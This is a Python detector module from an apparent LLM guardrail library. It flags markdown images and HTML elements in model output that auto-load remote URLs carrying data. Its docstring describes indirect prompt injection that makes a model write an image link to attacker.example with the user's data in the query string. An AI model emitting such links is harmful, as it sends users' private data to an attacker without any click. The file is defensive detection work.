"""URLs in an answer that a chat client fetches without anyone clicking:
markdown images and HTML elements that load remote content.

Why an output detector: it is how indirect prompt injection turns into data
theft. An instruction hidden in a document makes the model write
``![](https://attacker.example/p?d=<the user's data>)``; the client renders
the image and the request carries the data away, with no click (reported
against several commercial assistants). The input rules catch many such
instructions; this catches what the model actually wrote.

Two kinds: ``URL_WITH_DATA`` (the URL carries a long or encoded query value,
a placeholder, or much more path than an image needs) and
``REMOTE_IMAGE`` (any other auto-loaded URL to a host not allowed). Hosts on
``allowed_hosts`` (a suffix match: ``example.com`` allows
``cdn.example.com``) are never reported.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from typing import Any
from urllib.parse import parse_qsl, unquote, urlsplit

from pydantic import BaseModel, ConfigDict, Field

from mantlet.core.registry import register
from mantlet.core.types import Finding, ScanContext, Side
from mantlet.detectors._options import parse_options
from mantlet.detectors._re2 import compile_pattern

# RE2 (linear whatever the input), so no bounds are needed on repetitions.
# Inline markdown image; the closing parenthesis is optional so that a
# streamed image is recognised before it is complete.
_MARKDOWN_IMAGE = r"!\[[^\]\n]*\]\(\s*<?(?P<url>[^\s)>]+)>?(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'))?\s*\)?"
# Reference-style image (![alt][ref] or ![ref][]) and reference definitions.
_MARKDOWN_REF_IMAGE = r"!\[(?P<alt>[^\]\n]*)\]\[(?P<ref>[^\]\n]*)\]"
_MARKDOWN_REF_DEFINITION = r"(?m)^[ \t]{0,3}\[(?P<ref>[^\]\n]+)\]:[ \t]*<?(?P<url>[^\s>]+)>?"
# HTML elements that load a URL when rendered.
_HTML_LOADER = (
    r"(?i)<(?:img|iframe|frame|script|embed|source|video|audio|object|track|input|link|image)"
    r"\b[^>]*?\b(?:src|href|data|poster|srcset|background)\s*=\s*"
    r"[\"']?\s*(?P<url>[^\s\"'>]+)"
)
# A query value or path piece this long, or encoded, is data, not a parameter.
_LONG_VALUE = 24
_ENCODED = re.compile(r"[A-Za-z0-9+/_=-]{16,}|(?:%[0-9A-Fa-f]{2}){4,}|[0-9a-fA-F]{16,}")
_PLACEHOLDER = re.compile(r"[{}$<>\[\]]|%7[bBdD]|%24|%3[cCeE]|%5[bBdD]")


class AutoloadUrlOptions(BaseModel):
    model_config = ConfigDict(extra="forbid")

    allowed_hosts: list[str] = Field(
        default_factory=list,
        description="Hosts whose images may load (a suffix match: example.com allows"
        " cdn.example.com).",
    )
    max_path_chars: int = Field(
        200, gt=0, description="A longer URL path is reported as carrying data."
    )


class AutoloadUrlDetector:
    name = "autoload_urls"
    sides = Side.OUTPUT
    light = True  # linear-time pass, no model

    def __init__(self, options: AutoloadUrlOptions | None = None) -> None:
        self._options = options or AutoloadUrlOptions()
        self._allowed = tuple(h.lower().strip(".") for h in self._options.allowed_hosts if h)
        self._image = compile_pattern(_MARKDOWN_IMAGE)
        self._ref_image = compile_pattern(_MARKDOWN_REF_IMAGE)
        self._ref_definition = compile_pattern(_MARKDOWN_REF_DEFINITION)
        self._html = compile_pattern(_HTML_LOADER)

    def detect(self, text: str, context: ScanContext) -> list[Finding]:
        if "](" not in text and "<" not in text and "][" not in text:
            return []
        findings: list[Finding] = []
        for pattern in (self._image, self._html):
            for match in pattern.finditer(text):
                found = self._judge(match.group("url"), match.start(), match.end())
                if found is not None:
                    findings.append(found)
        findings.extend(self._reference_images(text))
        return findings

    def _reference_images(self, text: str) -> list[Finding]:
        used = {
            (m.group("ref") or m.group("alt")).strip().lower()
            for m in self._ref_image.finditer(text)
        }
        if not used:
            return []
        found = []
        for match in self._ref_definition.finditer(text):
            if match.group("ref").strip().lower() in used:
                finding = self._judge(match.group("url"), match.start(), match.end())
                if finding is not None:
                    found.append(finding)
        return found

    def _judge(self, url: str, start: int, end: int) -> Finding | None:
        try:
            parts = urlsplit(
                url if "://" in url else f"https:{url}" if url.startswith("//") else url
            )
            host = (parts.hostname or "").lower()
        except ValueError:  # an unparsable URL is not trusted either
            return Finding(self.name, "URL_WITH_DATA", start, end, 0.9, "unparsable URL")
        if parts.scheme not in ("http", "https") or not host:
            return None  # relative (same origin as the client) or data:, not remote
        if any(host == h or host.endswith("." + h) for h in self._allowed):
            return None
        reason = self._data_in(parts.path, parts.query, parts.fragment)
        if reason:
            return Finding(self.name, "URL_WITH_DATA", start, end, 0.95, reason)
        return Finding(self.name, "REMOTE_IMAGE", start, end, 0.6, "loads a remote URL")

    def _data_in(self, path: str, query: str, fragment: str) -> str:
        if len(unquote(path)) > self._options.max_path_chars:
            return "long path"
        for _, value in parse_qsl(query, keep_blank_values=True):
            if _PLACEHOLDER.search(value):
                return "placeholder in the query"
            if len(value) >= _LONG_VALUE or _ENCODED.search(value):
                return "long or encoded query value"
        if _PLACEHOLDER.search(query) or len(query) > self._options.max_path_chars:
            return "query"
        for piece in path.split("/"):
            if len(piece) >= 48 or (_ENCODED.fullmatch(piece) and "." not in piece):
                return "encoded path segment"
        return ""


@register("autoload_urls")
def _factory(options: Mapping[str, Any]) -> AutoloadUrlDetector:
    return AutoloadUrlDetector(parse_options(AutoloadUrlOptions, options, "autoload_urls"))
